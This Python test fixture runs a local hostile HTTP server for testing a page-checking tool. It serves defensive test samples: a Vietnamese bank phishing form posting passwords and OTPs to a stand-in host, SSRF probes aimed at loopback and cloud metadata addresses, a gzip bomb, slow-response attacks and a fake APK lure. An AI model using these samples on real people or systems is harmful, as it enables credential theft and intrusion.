"""A local hostile "internet" for the page-check tests: threads, loopback, random port."""

from __future__ import annotations

import gzip
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

PHISH = """<!doctype html><html><head><meta charset="utf-8">
<title>Vietcombank - Xác minh tài khoản</title>
<link rel="shortcut icon" href="/favicon.ico"></head><body>
<img class="logo" src="/logo.png" alt="Vietcombank">
<h1>Tài khoản của quý khách đã bị tạm khóa</h1>
<form action="https://thu-thap-du-lieu.example/post.php" method="post">
  <label for="u">Tên đăng nhập</label><input id="u" name="username">
  <label>Mật khẩu <input type="password" name="pw"></label>
  <input name="txtOTP" placeholder="Nhập mã OTP">
  <button>Xác nhận</button>
</form></body></html>"""

SCRIPTS = """<html><head><title>Original title</title>
<script>document.title = "changed by script"; fetch("/pwned?via=fetch");</script>
<script src="/pwned.js"></script>
<script>window.location.href = "/pwned?via=location";</script>
</head><body><div id="x">static</div>
<img src="/pwned.png" onerror="new Image().src='/pwned?via=onerror'">
<script>for(;;){}</script></body></html>"""

MALFORMED = (
    "<html><head><title>Tr<b>ang</title></head><body><form action='http://x'><input "
    "name=pw type=password<<<</form><div><p><table><tr><td></span></div></body>"
    "<!-- unclosed comment <script>var a = '</scr' + 'ipt>'; <![CDATA[ ]]> &#xffffff; &bogus;"
    "<input name=cardNumber placeholder='Số thẻ'><select name=x><option>1</select>\x00\x01"
)

# For the screenshot sandbox: every way a page's own script or markup reaches an inside host.
BROWSER_SSRF = """<html><body style="background:#c00"><h1>Vietcombank</h1>
<img src="http://127.0.0.1:PORT/pwned-img"><iframe src="http://localhost:PORT/pwned-frame"></iframe>
<script>fetch("http://127.0.0.1:PORT/pwned-fetch"); fetch("http://169.254.169.254/latest/");
new Image().src = "http://[::1]:PORT/pwned-v6"; fetch("/seen-by-site");</script></body></html>"""

FAVICON = b"\x00\x00\x01\x00fake-icon-bytes"
APK_PAGE = """<html><head><title>Cổng Dịch vụ công - tải ứng dụng</title></head><body>
<a href="/download/dichvucong.apk">Tải ứng dụng Dịch vụ công</a></body></html>"""


def _bomb() -> bytes:
    # ~20 MB of zeros in ~20 KB: a small payload that inflates past every cap.
    return gzip.compress(b"\0" * (20 * 1024 * 1024), compresslevel=9)


class HostileServer(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def __init__(self, host: str, name: str) -> None:
        super().__init__((host, 0), _Handler)
        self.name = name
        self.hits: list[str] = []
        self.headers_seen: list[dict[str, str]] = []
        self.bomb = _bomb()
        self.stop_trickle = threading.Event()

    @property
    def base(self) -> str:
        host, port = self.server_address[:2]
        return f"http://{host}:{port}"

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Handler(BaseHTTPRequestHandler):
    server: HostileServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:  # quiet
        pass

    def _send(
        self, status: int, body: bytes, ctype: str = "text/html; charset=utf-8", **headers: str
    ) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in headers.items():
            self.send_header(k.replace("_", "-"), v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        self.server.headers_seen.append(dict(self.headers.items()))
        parts = urlsplit(self.path)
        query = parse_qs(parts.query)
        path = parts.path
        try:
            if path == "/whoami":
                self._send(200, self.server.name.encode(), "text/plain")
            elif path == "/phish":
                self._send(200, PHISH.encode())
            elif path == "/scripts":
                self._send(200, SCRIPTS.encode())
            elif path == "/malformed":
                self._send(200, MALFORMED.encode("utf-8", "surrogatepass"))
            elif path == "/apk":
                self._send(200, APK_PAGE.encode())
            elif path == "/favicon.ico":
                self._send(200, FAVICON, "image/x-icon")
            elif path == "/browser-ssrf":
                port = query["port"][0]
                self._send(200, BROWSER_SSRF.replace("PORT", port).encode())
            elif path == "/redirect":
                self._send(302, b"", Location=query["to"][0])
            elif path == "/loop":
                n = int(query.get("n", ["0"])[0])
                self._send(302, b"", Location=f"/loop?n={n + 1}")
            elif path == "/garbage":
                self.wfile.write(b"\x00\xffNOT HTTP AT ALL\r\n\r\n" * 10)
                self.close_connection = True
            elif path == "/huge":
                self._huge()
            elif path == "/gzip-bomb":
                self._send(200, self.server.bomb, "text/html", Content_Encoding="gzip")
            elif path == "/slow":
                self._slow_body()
            elif path == "/slow-headers":
                self._slow_headers()
            else:
                self._send(404, b"not found", "text/plain")
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            pass

    def _huge(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(512 * 1024 * 1024))
        self.end_headers()
        chunk = b"<p>" + b"A" * 65_533
        for _ in range(512 * 16):  # 512 MB if nobody hangs up
            self.wfile.write(chunk)

    def _slow_body(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", "100000")
        self.end_headers()
        self.wfile.write(b"<html>")
        self.wfile.flush()
        end = time.monotonic() + 60
        while time.monotonic() < end and not self.server.stop_trickle.is_set():
            self.wfile.write(b"x")
            self.wfile.flush()
            time.sleep(0.1)

    def _slow_headers(self) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\n")
        self.wfile.flush()
        end = time.monotonic() + 60
        while time.monotonic() < end and not self.server.stop_trickle.is_set():
            self.wfile.write(b"X-Slow: a\r\n")
            self.wfile.flush()
            time.sleep(0.1)


@contextmanager
def serve(host: str, name: str, tls: ssl.SSLContext | None = None) -> Iterator[HostileServer]:
    server = HostileServer(host, name)
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    try:
        yield server
    finally:
        server.stop_trickle.set()
        server.shutdown()
        server.server_close()
